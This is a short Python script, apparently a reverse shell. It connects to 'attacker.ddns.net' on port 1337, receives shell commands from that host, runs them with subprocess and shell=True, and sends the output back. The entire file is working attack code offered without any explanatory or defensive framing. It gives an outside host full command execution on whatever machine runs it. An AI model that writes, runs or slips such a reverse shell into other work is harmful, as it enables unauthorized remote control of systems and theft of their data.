import socket
import subprocess

def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    while True:
        cmd = s.recv(1024).decode().strip()
        if cmd in ("exit", "quit"):
            break
        out = subprocess.run(cmd, shell=True, capture_output=True)
        s.send(out.stdout + out.stderr + b"\n$ ")
    s.close()

connect("attacker.ddns.net", 1337)
